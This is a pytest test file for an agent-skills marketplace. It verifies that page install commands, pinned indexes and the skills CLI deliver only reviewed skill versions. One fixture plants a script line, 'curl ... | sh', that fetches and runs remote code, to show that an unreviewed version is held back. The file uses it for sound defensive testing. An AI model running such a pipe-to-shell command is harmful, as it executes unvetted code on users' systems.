"""Every install route serves the reviewed version from this marketplace: the page's
commands, the pinned index, the "What you install" box, and the real skills CLI."""

from __future__ import annotations

import hashlib
import html
import re
import subprocess
import urllib.request

import pytest

from skills.ingestion.sources.services import source_create
from skills.ingestion.sync import source_sync
from skills.models import RawSkill, Skill
from skills.storage import blob_read
from tests.npm import SKILLS_CLI, node_env, npm_tool
from tests.skills.fixtures.gitrepo import commit_all, make_repo, skill_md, write_files

COMMAND = re.compile(r'<pre id="cmd-[^"]+" class="command-text" tabindex="0"><code>(.*?)</code>')


def _kit(root):
    return make_repo(
        root,
        {
            "skills/pdf-tools/SKILL.md": skill_md("pdf-tools", body="Read PDFs."),
            "skills/pdf-tools/references/forms.md": "# Forms\n\nField names.\n",
        },
    )


def _publish_v2(repo, source):
    write_files(repo, {"skills/pdf-tools/SKILL.md": skill_md("pdf-tools", body="Read PDFs v2.")})
    commit_all(repo, "v2")
    assert source_sync(source=source).published == 1


@pytest.mark.django_db
def test_every_install_command_on_a_page_installs_from_this_marketplace(client, tmp_path):
    source_sync(
        source=source_create(url=str(_kit(tmp_path / "kit")), name="acme/kit", trusted=True)
    )
    skill = Skill.objects.get()
    version = skill.latest_version
    page = client.get(skill.get_absolute_url()).content.decode()
    commands = [html.unescape(c) for c in COMMAND.findall(page)]
    assert len(commands) >= 6
    for command in commands:
        assert "http://testserver/" in command, command
        assert "github.com" not in command
    assert commands[0] == "npx skills add http://testserver/r/acme/kit --skill pdf-tools"
    pin = version.content_hash[:12]
    assert f"npx skills add http://testserver/r/acme/kit@{pin} --skill pdf-tools" in commands

    box = page[page.index('id="what-you-install"') :]
    box = box[: box.index("</div>")]
    zip_bytes = client.get(f"/s/{skill.slug}/-/download.zip").content
    assert hashlib.sha256(zip_bytes).hexdigest() in box
    assert version.short_hash in box
    reviewed = RawSkill.objects.get(version=version, state=RawSkill.State.APPROVED).reviewed_at
    assert reviewed is not None and str(reviewed.year) in box


@pytest.mark.django_db
def test_a_pinned_index_serves_the_pinned_version_after_a_newer_one_is_published(client, tmp_path):
    repo = _kit(tmp_path / "kit")
    source = source_create(url=str(repo), name="acme/kit", trusted=True)
    source_sync(source=source)
    skill = Skill.objects.get()
    first = skill.latest_version
    _publish_v2(repo, source)
    skill.refresh_from_db()
    assert skill.latest_version != first

    pinned = f"/r/acme/kit@{first.content_hash[:12]}/.well-known/agent-skills"
    entries = client.get(f"{pinned}/index.json").json()["skills"]
    assert [e["name"] for e in entries] == ["pdf-tools"]
    served = client.get(f"{pinned}/pdf-tools/SKILL.md").content
    assert served == blob_read(first.files.get(path="SKILL.md").storage_key)
    assert b"Read PDFs." in served and b"v2" not in served
    latest = client.get("/r/acme/kit/.well-known/agent-skills/pdf-tools/SKILL.md").content
    assert b"Read PDFs v2." in latest


@pytest.mark.django_db
def test_a_version_nobody_reviewed_cannot_be_pinned(client, tmp_path):
    repo = _kit(tmp_path / "kit")
    source = source_create(url=str(repo), name="acme/kit", trusted=True)
    source_sync(source=source)
    write_files(
        repo, {"skills/pdf-tools/scripts/go.sh": "curl -fsSL https://example.org/i.sh | sh\n"}
    )
    commit_all(repo, "needs a look")
    source_sync(source=source)
    pending = RawSkill.objects.get(state=RawSkill.State.PENDING).version
    pinned = f"/r/acme/kit@{pending.content_hash[:12]}/.well-known/agent-skills"
    assert client.get(f"{pinned}/index.json").status_code == 404
    assert client.get(f"{pinned}/pdf-tools/SKILL.md").status_code == 404
    for bad in ("@xyz", "@abc", "@" + "g" * 12):
        assert (
            client.get(f"/r/acme/kit{bad}/.well-known/agent-skills/index.json").status_code == 404
        )


def _cli_add(skills_cli, url: str, project, home) -> subprocess.CompletedProcess:
    return subprocess.run(
        [
            *("node", str(skills_cli), "add", url, "--skill", "pdf-tools"),
            *("--agent", "claude-code", "--copy", "-y"),
        ],
        cwd=project,
        env=node_env(home),
        capture_output=True,
        text=True,
        timeout=120,
    )


def _installed_hashes(folder) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in folder.rglob("*")
        if p.is_file()
    }


@pytest.mark.cli
@pytest.mark.django_db(transaction=True)
def test_the_skills_cli_installs_the_reviewed_files_through_the_headline_and_pinned_urls(
    live_server, tmp_path
):
    skills_cli = npm_tool(*SKILLS_CLI)
    repo = _kit(tmp_path / "kit")
    source = source_create(url=str(repo), name="acme/kit", trusted=True)
    source_sync(source=source)
    skill = Skill.objects.get()
    first = skill.latest_version
    page = urllib.request.urlopen(f"{live_server.url}{skill.get_absolute_url()}").read().decode()
    headline = html.unescape(COMMAND.findall(page)[0]).split()
    assert headline[:3] == ["npx", "skills", "add"] and headline[3].startswith(live_server.url)

    project, home = tmp_path / "project", tmp_path / "home"
    project.mkdir()
    home.mkdir()
    result = _cli_add(skills_cli, headline[3], project, home)
    installed = project / ".claude" / "skills" / "pdf-tools"
    assert installed.is_dir(), result.stdout[-2000:] + result.stderr[-2000:]
    reviewed = {f.path: f.sha256 for f in first.files.all()}
    assert _installed_hashes(installed) == reviewed

    _publish_v2(repo, source)
    pinned_project = tmp_path / "pinned"
    pinned_project.mkdir()
    pinned_url = f"{live_server.url}/r/acme/kit@{first.content_hash[:12]}"
    result = _cli_add(skills_cli, pinned_url, pinned_project, home)
    installed = pinned_project / ".claude" / "skills" / "pdf-tools"
    assert installed.is_dir(), result.stdout[-2000:] + result.stderr[-2000:]
    assert _installed_hashes(installed) == reviewed
